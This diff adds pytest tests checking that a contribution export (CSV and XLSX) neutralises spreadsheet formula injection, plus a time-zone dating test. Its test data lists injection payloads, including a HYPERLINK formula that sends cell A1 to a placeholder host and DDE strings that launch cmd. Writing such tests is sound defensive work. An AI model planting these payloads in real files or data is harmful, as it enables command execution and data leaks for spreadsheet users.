@@ -75,3 +75,59 @@ def test_only_analysis_roles_of_the_organisation_export(
     client.force_login(agent_b)
     assert export(client, org_a, corpus_process).status_code == 403
     assert export(client, org_b, corpus_process).status_code == 404
+
+
+DANGEROUS = [
+    '=HYPERLINK("https://exemple.org/?"&A1;"Cliquez")',
+    "+33 rue du Port",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def injected(published_a):
+    return [make_contribution(published_a, title=text, body=text) for text in DANGEROUS]
+
+
+def test_csv_cells_never_start_a_formula(client, org_a, published_a, injected):
+    import csv
+
+    client.force_login(make_member(org_a, Role.ANALYST))
+    content = b"".join(export(client, org_a, published_a).streaming_content).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(content.lstrip("\ufeff"), newline="")))
+    assert [r["text"] for r in rows] == ["'" + text for text in DANGEROUS]
+    assert [r["title"] for r in rows] == ["'" + text for text in DANGEROUS]
+
+
+def test_xlsx_cells_keep_the_exact_text_and_are_never_formulas(
+    client, org_a, published_a, injected
+):
+    from openpyxl import load_workbook
+
+    client.force_login(make_member(org_a, Role.ANALYST))
+    response = export(client, org_a, published_a, "xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in sheet[1]]
+    texts = [row[header.index("text")] for row in sheet.iter_rows(min_row=2)]
+    # XML reads a carriage return as a line feed: the only change
+    assert [cell.value for cell in texts] == [t.replace("\r", "\n") for t in DANGEROUS]
+    assert {cell.data_type for cell in texts} == {"s"}
+
+
+def test_contributions_are_dated_in_the_site_time_zone(client, org_a, published_a):
+    import csv
+    import datetime as dt
+
+    from openpyxl import load_workbook
+
+    late = dt.datetime(2026, 3, 1, 23, 30, tzinfo=dt.UTC)  # 00:30 on 2 March in Paris
+    make_contribution(published_a, body="Tard le soir", created_at=late)
+    client.force_login(make_member(org_a, Role.ANALYST))
+    content = b"".join(export(client, org_a, published_a).streaming_content).decode("utf-8")
+    assert next(csv.DictReader(io.StringIO(content.lstrip("\ufeff"))))["date"] == "2026-03-02"
+    sheet = load_workbook(io.BytesIO(export(client, org_a, published_a, "xlsx").content)).active
+    header = [cell.value for cell in sheet[1]]
+    assert sheet.cell(2, header.index("date") + 1).value == "2026-03-02"
